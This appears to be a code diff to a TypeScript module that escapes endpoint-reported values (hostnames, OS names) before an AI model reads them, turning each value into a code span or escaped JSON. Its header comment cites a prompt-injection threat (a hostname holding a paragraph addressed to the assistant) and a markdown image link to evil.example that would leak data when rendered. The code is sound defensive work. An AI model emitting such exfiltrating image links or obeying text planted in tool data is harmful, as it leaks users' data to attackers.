@@ -1,9 +1,13 @@
 /**
  * Values reported by endpoints (hostname, OS, version, client name, agent id…) are untrusted data:
- * an endpoint can report a "hostname" with line breaks, bidi overrides or a paragraph addressed to
- * the assistant. In any text a model reads they appear quoted and escaped, so they can never form
- * a line, hide or reorder text, or pass for the service's own words; `structuredContent` keeps the
- * exact values (up to MAX_REPORTED_CHARACTERS, see lib/mcp/limits.ts).
+ * an endpoint can report a "hostname" with line breaks, bidi overrides, a paragraph addressed to
+ * the assistant, or markdown (`![x](https://evil.example/p.png?d=…)`, `<img …>`, a link). In any
+ * text a model reads, or a host renders as markdown, they are inert: in a summary each value is a
+ * code span (quoted), in the JSON copy the characters that start markup are JSON escapes
+ * (inertJson); either way escaped so they can never form a line, hide or reorder text, or pass for
+ * the service's own words, and no CommonMark or GFM renderer makes them a link, an image, an
+ * autolink or HTML. `structuredContent` keeps the exact values (up to MAX_REPORTED_CHARACTERS,
+ * see lib/mcp/limits.ts).
  */
 
 /** How many characters (code points) of one reported value a text shows before it is cut. */
@@ -16,13 +20,16 @@ export const TEXT_VALUE_CHARACTERS = 120;
  */
 const UNSAFE = /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}\p{Cs}\p{Co}\p{Cn}"\\]/gu;
 
+/** The same, less the quote: a code span needs no quote escaped, and shows the value as it is. */
+const UNSAFE_IN_CODE = /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}\p{Cs}\p{Co}\p{Cn}\\]/gu;
+
 const SHORT_ESCAPES: Record<string, string> = { '\n': '\\n', '\r': '\\r', '\t': '\\t', '"': '\\"', '\\': '\\\\' };
 
 function escapeCodePoint(ch: string): string {
   return SHORT_ESCAPES[ch] ?? `\\u{${(ch.codePointAt(0) ?? 0).toString(16).toUpperCase().padStart(4, '0')}}`;
 }
 
-function cutAndEscape(value: string, max: number): { text: string; total: number | undefined } {
+function cutAndEscape(value: string, max: number, unsafe = UNSAFE): { text: string; total: number | undefined } {
   let shown = value;
   let total: number | undefined;
   // Cheap bound first: a string of at most `max` UTF-16 units has at most `max` code points.
@@ -33,7 +40,7 @@ function cutAndEscape(value: string, max: number): { text: string; total: number
       shown = points.slice(0, max).join('');
     }
   }
-  return { text: shown.replace(UNSAFE, escapeCodePoint), total };
+  return { text: shown.replace(unsafe, escapeCodePoint), total };
 }
 
 const cutMarker = (total: number): string => `…[cut: ${total} characters in all]`;
@@ -49,10 +56,48 @@ export function escapeReported(value: string, max = TEXT_VALUE_CHARACTERS): stri
   return total === undefined ? text : `${text}${cutMarker(total)}`;
 }
 
-/** A reported value in double quotes, escaped and cut as escapeReported does (the cut marker after the quote): for summaries. */
+/**
+ * `text` as a CommonMark code span: fenced by one backtick more than its longest run of backticks
+ * (so nothing inside can close it), with a space inside each fence when it starts or ends with a
+ * backtick or a space (CommonMark takes one such space off each side). Inside a code span no
+ * markdown is read: no link, image, autolink, emphasis or HTML, in any CommonMark or GFM renderer.
+ */
+function codeSpan(text: string): string {
+  if (text === '') return '` `';
+  const longest = Math.max(0, ...(text.match(/`+/g) ?? []).map((run) => run.length));
+  const fence = '`'.repeat(longest + 1);
+  const pad = /^[` ]|[` ]$/.test(text) ? ' ' : '';
+  return `${fence}${pad}${text}${pad}${fence}`;
+}
+
+/**
+ * A reported value quoted for a summary, as a code span (codeSpan), escaped and cut as
+ * escapeReported does (quotes kept as they are, the cut marker after the span): one line, nothing
+ * invisible, no markup.
+ */
 export function quoted(value: string, max = TEXT_VALUE_CHARACTERS): string {
-  const { text, total } = cutAndEscape(value, max);
-  return total === undefined ? `"${text}"` : `"${text}"${cutMarker(total)}`;
+  const { text, total } = cutAndEscape(value, max, UNSAFE_IN_CODE);
+  return total === undefined ? codeSpan(text) : `${codeSpan(text)}${cutMarker(total)}`;
+}
+
+/** JSON string literals as JSON.stringify writes them (no raw quote or backslash inside but as an escape). */
+const JSON_STRING = /"(?:[^"\\]|\\.)*"/g;
+/**
+ * In a JSON string, what could start markdown markup: the characters of links, images, HTML and
+ * entities, code, tables, emphasis and email autolinks anywhere, and the `:` of `://` and the `.`
+ * of `www.` (GFM's URL autolinks). Structure outside strings is never touched.
+ */
+const ACTIVE_IN_JSON = /[<>&[\]`|@*~]|:(?=\/\/)|(?<=[Ww]{3})\./g;
+
+/**
+ * `value` as JSON whose text no CommonMark or GFM renderer turns into markup: JSON.stringify's
+ * text with every markup-starting character inside a string written as a JSON `\uXXXX` escape.
+ * It parses back to exactly `value`; a renderer shows the escapes as text.
+ */
+export function inertJson(value: unknown): string {
+  return JSON.stringify(value).replace(JSON_STRING, (literal) =>
+    literal.replace(ACTIVE_IN_JSON, (ch) => `\\u${ch.charCodeAt(0).toString(16).toUpperCase().padStart(4, '0')}`),
+  );
 }
 
 /**
